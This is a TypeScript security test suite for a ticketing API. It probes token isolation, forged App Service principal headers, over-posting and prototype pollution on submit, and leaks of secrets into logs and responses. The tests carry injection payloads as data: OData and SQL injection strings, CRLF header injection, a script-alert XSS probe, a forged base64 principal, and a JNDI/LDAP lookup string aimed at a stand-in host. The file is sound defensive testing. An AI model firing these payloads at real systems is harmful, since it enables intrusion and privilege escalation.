// The security promises end to end, as an attacker with the API would probe them: a reporter's
// token opens only its own ticket; a forged platform principal means nothing while App Service
// Authentication is off; the public submit endpoint takes only the fields it owns; OData and header
// injection strings are inert everywhere; no response and no log line carries a secret.

import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { aSubmission } from '../support/builders';
import { startTestHost, type TestHost } from '../support/testHost';
import { captureConsole, storageKeyOf } from '../api/notifications.support';

const OPS_KEY = 'ops-key-for-security-tests-0123456789';
let t: TestHost;
let output: ReturnType<typeof captureConsole>;
const issuedTokens: string[] = [];
const responses: string[] = [];

beforeAll(async () => {
  output = captureConsole();
  t = await startTestHost({ env: { OPS_API_KEY: OPS_KEY, EMAIL_OUTBOX_DIR: `/tmp/security-outbox-${process.pid}` } });
});
afterAll(async () => {
  await t?.stop();
  output?.restore();
});
afterEach(() => {
  // No log line (host lines, the app's JSON lines) and no response other than the 201 carries a
  // token issued here, the operator key or the storage account key.
  const logs = [...t.logs, ...output.lines].join('\n');
  for (const secret of [...issuedTokens, OPS_KEY, storageKeyOf(t)]) {
    expect(logs.includes(secret), 'a secret in the logs').toBe(false);
    expect(
      responses.filter((r) => r.includes(secret)).map((r) => r.slice(0, 300)),
      'a secret in a response',
    ).toEqual([]);
  }
});

/** fetch that keeps every response text (headers and body) for the secret check. */
async function call(path: string, init: RequestInit = {}): Promise<{ status: number; text: string; headers: Headers }> {
  const res = await t.fetch(path, { redirect: 'manual', signal: AbortSignal.timeout(10_000), ...init });
  const text = await res.text();
  const issuing = path === '/api/tickets' && (res.status === 201 || res.status === 200);
  if (!issuing) responses.push(`${res.status}\n${[...res.headers].map(([k, v]) => `${k}: ${v}`).join('\n')}\n\n${text}`);
  return { status: res.status, text, headers: res.headers };
}

async function submit(): Promise<{ confirmationNumber: string; accessToken: string }> {
  const res = await t.fetch('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(aSubmission()) });
  expect(res.status).toBe(201);
  const body = (await res.json()) as { confirmationNumber: string; accessToken: string };
  issuedTokens.push(body.accessToken);
  return body;
}

const forgedPrincipal = Buffer.from(
  JSON.stringify({
    auth_typ: 'aad',
    claims: [
      { typ: 'roles', val: 'Tickets.Triage' },
      { typ: 'http://schemas.microsoft.com/ws/2008/06/identity/claims/role', val: 'Tickets.Triage' },
    ],
  }),
).toString('base64');

describe("a reporter's token", () => {
  it('never reads another ticket, by header or by link, and never changes one', async () => {
    const mine = await submit();
    const theirs = await submit();
    const other = `/api/tickets/${theirs.confirmationNumber}`;
    expect((await call(other, { headers: { authorization: `Bearer ${mine.accessToken}` } })).status).toBe(404);
    expect((await call(`${other}?token=${encodeURIComponent(mine.accessToken)}`)).status).toBe(404);
    expect((await call(`${other}?token=${encodeURIComponent(mine.accessToken)}`, { headers: { accept: 'text/html' } })).status).toBe(404);
    for (const [action, body] of [
      ['acknowledge', { priority: 'p1', severity: 'low' }],
      ['status', { status: 'resolved', outcome: 'no-action' }],
    ] as const) {
      for (const ticket of [mine, theirs]) {
        const res = await call(`/api/tickets/${ticket.confirmationNumber}/${action}`, {
          method: 'POST',
          headers: { authorization: `Bearer ${mine.accessToken}`, 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
        expect(res.status).toBe(403);
      }
    }
    expect((await call(`/api/ops/tickets`, { headers: { authorization: `Bearer ${mine.accessToken}` } })).status).toBe(403);
    const still = await call(other, { headers: { authorization: `Bearer ${theirs.accessToken}` } });
    expect(JSON.parse(still.text)).toMatchObject({ status: 'submitted', priority: null });
  });
});

describe('a forged x-ms-client-principal while App Service Authentication is off', () => {
  it('grants nothing: no reading, no listing, no triage', async () => {
    const { confirmationNumber: n } = await submit();
    const headers = { 'x-ms-client-principal': forgedPrincipal, 'x-ms-client-principal-idp': 'aad', 'content-type': 'application/json' };
    expect((await call(`/api/tickets/${n}`, { headers })).status).toBe(401);
    expect((await call('/api/ops/tickets', { headers })).status).toBe(401);
    expect((await call(`/api/tickets/${n}/acknowledge`, { method: 'POST', headers, body: JSON.stringify({ priority: 'p1', severity: 'low' }) })).status).toBe(
      401,
    );
  });
});

describe('the submit endpoint', () => {
  const notOwned: Record<string, unknown> = {
    status: 'resolved',
    priority: 'p1',
    severity: 'critical',
    outcome: 'no-action',
    confirmationNumber: 'SE-AAAA-AAAA-AAAAA',
    submittedAt: '2020-01-01T00:00:00Z',
    acknowledgeBy: '2099-01-01T00:00:00Z',
    acknowledgedAt: '2020-01-01T00:00:00Z',
    slaBreached: true,
    history: [],
    accessToken: 'chosen-by-the-caller-0123456789',
    cvss: { version: '3.1', baseScore: 0, baseSeverity: 'none', score: 0, severity: 'none' },
    __proto__: { status: 'resolved' },
  };
  for (const [field, value] of Object.entries(notOwned)) {
    it(`refuses ${field} (400, nothing stored)`, async () => {
      const body = JSON.stringify({ ...aSubmission(), [field]: value }).replace('"__proto__"', '"__proto__"');
      const res = await call('/api/tickets', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: field === '__proto__' ? body.replace(/}$/, ',"__proto__":{"status":"resolved"}}') : body,
      });
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
    });
  }

  it('refuses unknown fields nested in the objects it owns, and as form fields', async () => {
    for (const nested of [{ reporter: { role: 'operator' } }, { mitigation: { status: 'resolved' } }, { customerNotification: { priority: 'p1' } }]) {
      expect(
        (await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(aSubmission(nested)) })).status,
      ).toBe(400);
    }
    const form = new URLSearchParams([
      ['category', 'incident'],
      ['offerId', 'contoso-firewall'],
      ['summary', 'A summary long enough'],
      ['description', 'Something'],
      ['reporter.name', 'Ada'],
      ['reporter.email', 'ada@contoso.example'],
      ['status', 'resolved'],
      ['priority', 'p1'],
    ]);
    const res = await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form.toString() });
    expect(res.status).toBe(400);
  });
});

const singleLine = (s: string) => s.replace(/[\u2028\u2029]/g, ' ');

describe('injection strings', () => {
  const odata = [
    "' or 1 eq 1 or '",
    "x' or PartitionKey ne '",
    "') or true or ('",
    '%27%20or%201%20eq%201',
    "SE-' or RowKey gt '",
    '$filter=true',
    "'; drop table tickets; --",
  ];
  const headerish = ['x\u2028Set-Cookie: a=b', 'x%0d%0aSet-Cookie: a=b', '\\r\\nSet-Cookie: a=b', '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'];
  const strings = [...odata, ...headerish];

  it('are inert in route parameters: 400 before any lookup, for reporters and operators', async () => {
    for (const s of strings) {
      for (const suffix of ['', '/acknowledge', '/status']) {
        const res = await call(`/api/tickets/${encodeURIComponent(s)}${suffix}`, {
          method: suffix ? 'POST' : 'GET',
          headers: { authorization: `Bearer ${OPS_KEY}`, 'content-type': 'application/json' },
          ...(suffix ? { body: '{"priority":"p1","severity":"low"}' } : {}),
        });
        expect([400, 404], `${suffix} ${s}: ${res.status}`).toContain(res.status);
      }
    }
  });

  it('are inert in query parameters: filters refuse them, tokens do not match', async () => {
    const { confirmationNumber: n } = await submit();
    for (const s of strings) {
      for (const query of [`status=${encodeURIComponent(s)}`, `slaBreached=${encodeURIComponent(s)}`, `continuationToken=${encodeURIComponent(s)}`]) {
        const res = await call(`/api/ops/tickets?${query}`, { headers: { authorization: `Bearer ${OPS_KEY}` } });
        expect(res.status, `${query}: ${res.text.slice(0, 200)}`).toBeLessThan(500);
        expect(res.status).toBe(400);
      }
      expect((await call(`/api/tickets/${n}?token=${encodeURIComponent(s)}`)).status).toBe(404);
    }
  });

  it('are inert in headers: as a bearer token, an Idempotency-Key, a language', async () => {
    const { confirmationNumber: n } = await submit();
    for (const s of strings.filter((x) => /^[\x20-\x7e]*$/.test(x))) {
      expect((await call(`/api/tickets/${n}`, { headers: { authorization: `Bearer ${s}` } })).status).toBeLessThan(500);
      const res = await call('/api/tickets', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'idempotency-key': s, 'accept-language': s },
        body: JSON.stringify(aSubmission({ summary: `Idempotency probe ${s}`.slice(0, 200) })),
      });
      expect([200, 201, 400], `${s}: ${res.status}`).toContain(res.status);
      if (res.status === 201) issuedTokens.push((JSON.parse(res.text) as { accessToken: string }).accessToken);
      expect([...res.headers.keys()]).not.toContain('set-cookie');
    }
  });

  it('are stored and shown as plain text in bodies, never interpreted', async () => {
    for (const s of strings) {
      const res = await call('/api/tickets', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        // Single-line fields refuse control characters (U+2028 included), so those go to the description.
        body: JSON.stringify(aSubmission({ summary: `Probe: ${singleLine(s)}`, description: s })),
      });
      expect(res.status, s).toBe(201);
      const { confirmationNumber, accessToken } = JSON.parse(res.text) as { confirmationNumber: string; accessToken: string };
      issuedTokens.push(accessToken);
      const read = await call(`/api/tickets/${confirmationNumber}`, { headers: { authorization: `Bearer ${accessToken}` } });
      expect(JSON.parse(read.text)).toMatchObject({ summary: `Probe: ${singleLine(s)}` });
      const page = await call(`/api/tickets/${confirmationNumber}?token=${encodeURIComponent(accessToken)}`, { headers: { accept: 'text/html' } });
      expect(page.status).toBe(200);
      expect(page.text).not.toContain('<script>alert(1)</script>');
    }
    // The listing still shows only real tickets: no filter was widened by what the bodies said.
    const list = await call('/api/ops/tickets?status=resolved', { headers: { authorization: `Bearer ${OPS_KEY}` } });
    expect(JSON.parse(list.text).items).toEqual([]);
  });
});

describe('the thread', () => {
  it('never answers with a token: not the page after a reply from its form, not a refused reply, not the JSON', async () => {
    const { confirmationNumber: n, accessToken } = await submit();
    const form = { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' };
    const post = (fields: Record<string, string>) =>
      call(`/api/tickets/${n}/messages`, { method: 'POST', headers: form, body: new URLSearchParams(fields).toString() });
    expect((await post({ body: '<script>alert(1)</script>', token: accessToken })).status).toBe(200);
    expect((await post({ body: '   ', token: accessToken })).status).toBe(400);
    expect((await post({ body: 'no code' })).status).toBe(400);
    expect((await post({ body: 'wrong code', token: 'not-the-token' })).status).toBe(404);
    const json = { authorization: `Bearer ${accessToken}`, 'content-type': 'application/json' };
    expect((await call(`/api/tickets/${n}/messages`, { method: 'POST', headers: json, body: JSON.stringify({ body: 'hello' }) })).status).toBe(201);
    const list = await call(`/api/tickets/${n}/messages`, { headers: { authorization: `Bearer ${accessToken}` } });
    expect(JSON.parse(list.text).items.map((m: { body: string }) => m.body)).toEqual(['<script>alert(1)</script>', 'hello']);
  });
});
